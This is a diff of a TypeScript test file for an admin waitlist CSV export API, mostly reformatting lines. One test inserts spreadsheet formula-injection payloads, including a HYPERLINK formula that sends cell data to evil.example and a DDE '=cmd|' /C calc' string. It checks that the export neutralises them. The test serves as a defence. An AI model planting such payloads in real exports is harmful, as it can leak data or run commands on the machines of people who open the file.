@@ -1,32 +1,54 @@
 import { parse } from "csv-parse/sync";
 
-import { resetDatabase, prepareTestDatabase } from "@/test/db";
 import { GET, HEAD } from "@/app/api/admin/waitlist/export/route";
-import { startTestSession } from "@/test/admin";
 import { EXPORT_BATCH_SIZE } from "@/lib/data/waitlist/export";
 import { getDb, withSql } from "@/lib/db";
+import { startTestSession } from "@/test/admin";
+import { prepareTestDatabase, resetDatabase } from "@/test/db";
 import { awayFromWindowEdge } from "@/test/rate-limit-window";
 
 prepareTestDatabase();
 
 const BASE = "http://localhost/api/admin/waitlist/export";
-const HEADER = ["Name", "Email", "Business Type", "Team Size", "Joined", "Confirmed", "Status", "Invited", "Accepted", "Source", "Medium", "Campaign", "Referrer"];
+const HEADER = [
+  "Name",
+  "Email",
+  "Business Type",
+  "Team Size",
+  "Joined",
+  "Confirmed",
+  "Status",
+  "Invited",
+  "Accepted",
+  "Source",
+  "Medium",
+  "Campaign",
+  "Referrer",
+];
 
 async function adminCookie(): Promise<string> {
   const [admin] = await withSql((sql) =>
-    sql.query<{ id: number }>(`INSERT INTO "admin_users" ("name", "email", "password") VALUES ('Ada', 'ada@example.com', 'x') RETURNING "id"`),
+    sql.query<{ id: number }>(
+      `INSERT INTO "admin_users" ("name", "email", "password") VALUES ('Ada', 'ada@example.com', 'x') RETURNING "id"`,
+    ),
   );
   return (await startTestSession(admin!)).cookie;
 }
 
-const get = (query: string, cookie?: string) => GET(new Request(`${BASE}${query}`, { headers: cookie ? { cookie } : {} }), undefined);
+const get = (query: string, cookie?: string) =>
+  GET(new Request(`${BASE}${query}`, { headers: cookie ? { cookie } : {} }), undefined);
 
 const parseCsv = (text: string) => parse(text, { bom: true }) as string[][];
 
-async function insert(rows: [name: string, email: string, businessType: string, employees: string, joinedAt: string][]) {
+async function insert(
+  rows: [name: string, email: string, businessType: string, employees: string, joinedAt: string][],
+) {
   await withSql(async (sql) => {
     for (const row of rows) {
-      await sql.query(`INSERT INTO "waitlist" ("name", "email", "businessType", "employees", "joinedAt") VALUES ($1, $2, $3, $4, $5)`, row);
+      await sql.query(
+        `INSERT INTO "waitlist" ("name", "email", "businessType", "employees", "joinedAt") VALUES ($1, $2, $3, $4, $5)`,
+        row,
+      );
     }
   });
 }
@@ -52,7 +74,11 @@ describe(`GET /api/admin/waitlist/export (${process.env.DATABASE_URL ? "PostgreS
   });
 
   it("answers HEAD with what GET would do, without a body and without counting an export", async () => {
-    const head = (query: string, withCookie?: string) => HEAD(new Request(`${BASE}${query}`, { method: "HEAD", headers: withCookie ? { cookie: withCookie } : {} }), undefined);
+    const head = (query: string, withCookie?: string) =>
+      HEAD(
+        new Request(`${BASE}${query}`, { method: "HEAD", headers: withCookie ? { cookie: withCookie } : {} }),
+        undefined,
+      );
     expect((await head("")).status).toBe(401);
     expect((await head("?sort=random", cookie)).status).toBe(400);
     const ok = await head("?q=ann", cookie);
@@ -73,7 +99,7 @@ describe(`GET /api/admin/waitlist/export (${process.env.DATABASE_URL ? "PostgreS
 
   it("round-trips hostile values through a CSV parser, with formulas neutralised", async () => {
     const hostile: [string, string][] = [
-      ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"],
+      ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'],
       ["+1", "'+1"],
       ["-2+3", "'-2+3"],
       ["@SUM(A1)", "'@SUM(A1)"],
@@ -87,13 +113,33 @@ describe(`GET /api/admin/waitlist/export (${process.env.DATABASE_URL ? "PostgreS
       ["Zoë 👩‍🔧", "Zoë 👩‍🔧"],
     ];
     await insert(
-      hostile.map(([name], index) => [name, `person${index}@example.com`, "car", "1", `2025-01-${String(index + 1).padStart(2, "0")}T08:00:00Z`]),
+      hostile.map(([name], index) => [
+        name,
+        `person${index}@example.com`,
+        "car",
+        "1",
+        `2025-01-${String(index + 1).padStart(2, "0")}T08:00:00Z`,
+      ]),
     );
     await insert([["Mallory", "=cmd|' /C calc'!A0@example.com", "therapy", "11+", "2024-12-01T00:00:00Z"]]);
 
     const records = parseCsv(await (await get("?sort=joined_asc", cookie)).text());
     expect(records[0]).toEqual(HEADER);
-    expect(records[1]).toEqual(["Mallory", "'=cmd|' /C calc'!A0@example.com", "Therapy & counselling", "11+", "2024-12-01T00:00:00.000Z", "", "waiting", "", "", "", "", "", ""]);
+    expect(records[1]).toEqual([
+      "Mallory",
+      "'=cmd|' /C calc'!A0@example.com",
+      "Therapy & counselling",
+      "11+",
+      "2024-12-01T00:00:00.000Z",
+      "",
+      "waiting",
+      "",
+      "",
+      "",
+      "",
+      "",
+      "",
+    ]);
     expect(records.slice(2)).toEqual(
       hostile.map(([, expected], index) => [
         expected,
@@ -124,7 +170,23 @@ describe(`GET /api/admin/waitlist/export (${process.env.DATABASE_URL ? "PostgreS
     const newestFirst = parseCsv(await (await get("?q=smith", cookie)).text());
     expect(newestFirst.slice(1).map((record) => record[0])).toEqual(["Cat Smith", "Ann Smith"]);
     const byLabel = parseCsv(await (await get("?q=valeting", cookie)).text());
-    expect(byLabel.slice(1)).toEqual([["Bob Jones", "bob@example.com", "Car valeting & detailing", "6-10", "2025-01-02T00:00:00.000Z", "", "waiting", "", "", "", "", "", ""]]);
+    expect(byLabel.slice(1)).toEqual([
+      [
+        "Bob Jones",
+        "bob@example.com",
+        "Car valeting & detailing",
+        "6-10",
+        "2025-01-02T00:00:00.000Z",
+        "",
+        "waiting",
+        "",
+        "",
+        "",
+        "",
+        "",
+        "",
+      ],
+    ]);
   });
 
   it("filters to confirmed or unconfirmed entries, and shows when each was confirmed", async () => {
@@ -132,14 +194,26 @@ describe(`GET /api/admin/waitlist/export (${process.env.DATABASE_URL ? "PostgreS
       ["Ann Smith", "ann@example.com", "cleaning", "2-5", "2025-01-01T00:00:00Z"],
       ["Bob Jones", "bob@example.com", "car", "6-10", "2025-01-02T00:00:00Z"],
     ]);
-    await withSql((sql) => sql.exec(`UPDATE "waitlist" SET "confirmedAt" = timestamptz '2025-01-03 10:00:00+00' WHERE "email" = 'bob@example.com'`));
+    await withSql((sql) =>
+      sql.exec(
+        `UPDATE "waitlist" SET "confirmedAt" = timestamptz '2025-01-03 10:00:00+00' WHERE "email" = 'bob@example.com'`,
+      ),
+    );
     const all = parseCsv(await (await get("?sort=name_asc", cookie)).text());
     expect(all.slice(1).map((record) => [record[0], record[5]])).toEqual([
       ["Ann Smith", ""],
       ["Bob Jones", "2025-01-03T10:00:00.000Z"],
     ]);
-    expect(parseCsv(await (await get("?confirmed=yes", cookie)).text()).slice(1).map((record) => record[0])).toEqual(["Bob Jones"]);
-    expect(parseCsv(await (await get("?confirmed=no&q=smith", cookie)).text()).slice(1).map((record) => record[0])).toEqual(["Ann Smith"]);
+    expect(
+      parseCsv(await (await get("?confirmed=yes", cookie)).text())
+        .slice(1)
+        .map((record) => record[0]),
+    ).toEqual(["Bob Jones"]);
+    expect(
+      parseCsv(await (await get("?confirmed=no&q=smith", cookie)).text())
+        .slice(1)
+        .map((record) => record[0]),
+    ).toEqual(["Ann Smith"]);
     expect((await get("?confirmed=maybe", cookie)).status).toBe(400);
   });
 
@@ -160,7 +234,10 @@ describe(`GET /api/admin/waitlist/export (${process.env.DATABASE_URL ? "PostgreS
       ["Bob Jones", "", "", "", "t.co"],
       ["Cat Smith", "", "", "", ""],
     ]);
-    const names = async (query: string) => parseCsv(await (await get(query, cookie)).text()).slice(1).map((record) => record[0]);
+    const names = async (query: string) =>
+      parseCsv(await (await get(query, cookie)).text())
+        .slice(1)
+        .map((record) => record[0]);
     expect(await names("?source=Newsletter")).toEqual(["Ann Smith"]);
     expect(await names("?source=t.co")).toEqual(["Bob Jones"]);
     expect(await names("?source=direct")).toEqual(["Cat Smith"]);
@@ -173,11 +250,17 @@ describe(`GET /api/admin/waitlist/export (${process.env.DATABASE_URL ? "PostgreS
       ["Bob Jones", "bob@example.com", "car", "6-10", "2025-01-02T00:00:00Z"],
       ["Cat Smith", "cat@example.com", "beauty", "1", "2025-01-03T00:00:00Z"],
     ]);
-    const exports = () => getDb().auditLog.findMany({ where: { action: "waitlist.export" }, orderBy: { id: "asc" }, select: { details: true } });
+    const exports = () =>
+      getDb().auditLog.findMany({
+        where: { action: "waitlist.export" },
+        orderBy: { id: "asc" },
+        select: { details: true },
+      });
     await (await get("?q=smith&sort=name_asc", cookie)).text();
     await (await get("", cookie)).text();
     // The entry is written as the stream closes, just after the last byte reaches the reader.
-    for (let tries = 0; (await exports()).length < 2 && tries < 100; tries++) await new Promise((resolve) => setTimeout(resolve, 20));
+    for (let tries = 0; (await exports()).length < 2 && tries < 100; tries++)
+      await new Promise((resolve) => setTimeout(resolve, 20));
     expect((await exports()).map((row) => row.details)).toEqual([
       { filters: { q: "smith", sort: "name_asc" }, rows: 2, completed: true },
       { filters: { q: "", sort: "joined_desc" }, rows: 3, completed: true },
